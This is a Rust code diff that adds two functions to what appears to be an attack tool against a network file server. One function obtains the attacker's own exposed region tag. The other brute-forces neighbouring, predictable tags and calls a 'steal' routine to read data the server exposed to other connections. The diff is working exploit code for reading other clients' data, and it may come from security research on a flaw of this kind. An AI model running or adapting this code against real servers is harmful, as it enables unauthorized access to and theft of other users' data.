@@ -74,6 +74,43 @@ pub fn guess_writes(addr: SocketAddr, private: &[u8], count: u64, seed: u64) -> 
     Ok(tries)
 }
 
+/// Where the server exposes a file's data to the attacker itself: from its tag others may be guessed.
+///
+/// # Errors
+/// When the server cannot be reached, or exposes nothing.
+pub fn own_tag(addr: SocketAddr, private: &[u8], export: &str, name: &str) -> io::Result<Source> {
+    let mut files = Files::new(Peer::connect(addr, private)?);
+    let root = files.mount(export)?;
+    let file = files.lookup(&root, name)?;
+    files.read(&file, 0, 64 << 10)?.ok_or_else(|| io::ErrorKind::Unsupported.into())
+}
+
+/// Reads the tags around `own`, the nearest first, each on a connection of its own, until one is answered or `count`
+/// were tried. Of a server whose tags follow one another (the index and the key by one each) these are the tags that
+/// it gave out just before and behind it. Also gives what was read.
+///
+/// # Errors
+/// When the server cannot be reached, or answers nothing.
+pub fn guess_near(
+    addr: SocketAddr,
+    private: &[u8],
+    own: u32,
+    count: u64,
+) -> io::Result<(Tries, Option<Vec<u8>>)> {
+    let after = |n: u32| (own >> 8).wrapping_add(n) << 8 | (own.wrapping_add(n) & 0xff);
+    let mut tries = Tries::default();
+    let near = (1..).flat_map(|n: u32| [after(n.wrapping_neg()), after(n)]);
+    for tag in near.take(usize::try_from(count).unwrap_or(usize::MAX)) {
+        let mut files = Files::new(Peer::connect(addr, private)?);
+        let stolen = files.steal(Source { tag, length: 4096, offset: 0 })?;
+        tries.count(stolen.as_ref().map(Vec::len));
+        if stolen.is_some() {
+            return Ok((tries, stolen));
+        }
+    }
+    Ok((tries, None))
+}
+
 /// Reads a region that the server has exposed to *another* connection, whose tag the attacker knows exactly, and the
 /// tags next to it.
 ///
